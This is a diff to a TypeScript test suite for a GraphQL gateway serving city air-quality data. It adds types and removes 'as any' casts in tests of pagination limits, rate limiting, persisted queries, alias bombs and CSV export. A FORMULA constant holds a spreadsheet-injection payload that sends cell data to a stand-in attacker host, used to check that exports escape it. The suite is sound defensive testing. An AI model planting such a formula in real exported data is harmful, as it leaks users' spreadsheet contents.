@@ -6,6 +6,10 @@ import { startTestStack, type TestStack } from '../helpers/test-stack';
 const NESTED_PEERS = '{ cities { peers { id observations { nodes { value revisions { value } } } peers { id observations { nodes { value revisions { value } } } } } } }';
 const FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"source")';
 
+/** The body of a refusal: errors with a code. */
+type Refusal = { errors: { extensions: { code: string } }[] };
+type Observations<N> = { city: { observations: { totalCount: number; pageInfo: { hasNextPage: boolean; endCursor: string }; nodes: N[] } } };
+
 describe('the gateway under hostile use', () => {
   let system: TestStack;
   let editor: string;
@@ -30,15 +34,15 @@ describe('the gateway under hostile use', () => {
   });
 
   it('pages a city\'s observations and refuses a page over the maximum', async () => {
-    const first = await system.query('{ city(id: "beijing") { observations(first: 3) { totalCount pageInfo { hasNextPage endCursor } nodes { id } } } }');
-    const page = first.data?.city.observations;
+    const first = await system.query<Observations<{ id: string }>>('{ city(id: "beijing") { observations(first: 3) { totalCount pageInfo { hasNextPage endCursor } nodes { id } } } }');
+    const page = first.data!.city.observations;
     expect(page.nodes).toHaveLength(3);
     expect(page.totalCount).toBeGreaterThan(3);
     expect(page.pageInfo.hasNextPage).toBe(true);
-    const second = await system.query('query ($after: String) { city(id: "beijing") { observations(first: 3, after: $after) { nodes { id } } } }', { after: page.pageInfo.endCursor });
-    const ids = second.data?.city.observations.nodes.map((node: { id: string }) => node.id);
+    const second = await system.query<Observations<{ id: string }>>('query ($after: String) { city(id: "beijing") { observations(first: 3, after: $after) { nodes { id } } } }', { after: page.pageInfo.endCursor });
+    const ids = second.data!.city.observations.nodes.map((node) => node.id);
     expect(ids).toHaveLength(3);
-    expect(ids.some((id: string) => page.nodes.some((node: { id: string }) => node.id === id))).toBe(false);
+    expect(ids.some((id) => page.nodes.some((node) => node.id === id))).toBe(false);
     const tooMany = await system.query('{ city(id: "beijing") { observations(first: 1001) { nodes { id } } } }');
     expect(tooMany.errors?.[0].extensions?.code).toBe('BAD_USER_INPUT');
     const badCursor = await system.query('{ city(id: "beijing") { observations(after: "nonsense") { nodes { id } } } }');
@@ -59,7 +63,7 @@ describe('the gateway under hostile use', () => {
   it('answers an unknown export name with a JSON 404, also for names of JavaScript object properties', async () => {
     for (const name of ['constructor', '__proto__', 'toString', 'hasOwnProperty']) {
       const response = await get(`/export/${name}.csv`);
-      expect({ name, status: response.status, code: ((await response.json()) as any).errors[0].extensions.code }).toEqual({ name, status: 404, code: 'NOT_FOUND' });
+      expect({ name, status: response.status, code: ((await response.json()) as Refusal).errors[0].extensions.code }).toEqual({ name, status: 404, code: 'NOT_FOUND' });
     }
   });
 
@@ -74,8 +78,8 @@ describe('the gateway under hostile use', () => {
     expect(csv).toContain(`"'${FORMULA.replace(/"/g, '""')}"`);
     expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
 
-    const series = await system.query('{ beijing: city(id: "beijing") { series(indicatorCode: "PM25_ANNUAL_MEAN") { points { changeFromPrevious } } } }');
-    const negative = series.data?.beijing.series.points.map((point: { changeFromPrevious: number | null }) => point.changeFromPrevious).find((change: number | null) => change !== null && change < 0);
+    const series = await system.query<{ beijing: { series: { points: { changeFromPrevious: number | null }[] } } }>('{ beijing: city(id: "beijing") { series(indicatorCode: "PM25_ANNUAL_MEAN") { points { changeFromPrevious } } } }');
+    const negative = series.data?.beijing.series.points.map((point) => point.changeFromPrevious).find((change) => change !== null && change < 0);
     expect(negative).toBeLessThan(0);
     const seriesCsv = await (await get('/export/series.csv?cityId=beijing&indicatorCode=PM25_ANNUAL_MEAN')).text();
     expect(seriesCsv.split(/\r?\n/).some((line) => line.split(',').includes(String(negative)))).toBe(true);
@@ -85,7 +89,7 @@ describe('the gateway under hostile use', () => {
     const writer = await system.token({ sub: 'alias-writer', role: Role.CITY_EDITOR, city: 'haikou' });
     const aliases = Array.from({ length: 6 }, (_, index) => `w${index}: enrollCity(cityId: "haikou")`).join(' ');
     const response = await post({ query: `mutation { ${aliases} }` }, writer);
-    const body = (await response.json()) as { errors: { extensions: { code: string } }[] };
+    const body = (await response.json()) as Refusal;
     expect(response.status).toBe(429);
     expect(body.errors[0].extensions.code).toBe('RATE_LIMITED');
   });
@@ -95,15 +99,15 @@ describe('the gateway under hostile use', () => {
     const sha256Hash = createHash('sha256').update(query).digest('hex');
     const response = await post({ query, extensions: { persistedQuery: { version: 1, sha256Hash } } });
     expect(response.status).toBe(400);
-    expect(((await response.json()) as any).errors[0].extensions.code).toBe('PERSISTED_QUERY_TOO_LARGE');
+    expect(((await response.json()) as Refusal).errors[0].extensions.code).toBe('PERSISTED_QUERY_TOO_LARGE');
     const lookup = await post({ extensions: { persistedQuery: { version: 1, sha256Hash } } });
-    expect(((await lookup.json()) as any).errors[0].extensions.code).toBe('PERSISTED_QUERY_NOT_FOUND');
+    expect(((await lookup.json()) as Refusal).errors[0].extensions.code).toBe('PERSISTED_QUERY_NOT_FOUND');
   });
 
   it('refuses an alias bomb at the front door with one validation error', async () => {
     const query = `{ ${Array.from({ length: 1000 }, (_, index) => `a${index}: initiatives { id }`).join(' ')} }`;
     const response = await post({ query });
-    const body = (await response.json()) as { errors: { extensions: { code: string } }[] };
+    const body = (await response.json()) as Refusal;
     expect(response.status).toBe(400);
     expect(body.errors).toHaveLength(1);
     expect(body.errors[0].extensions.code).toBe('GRAPHQL_VALIDATION_FAILED');
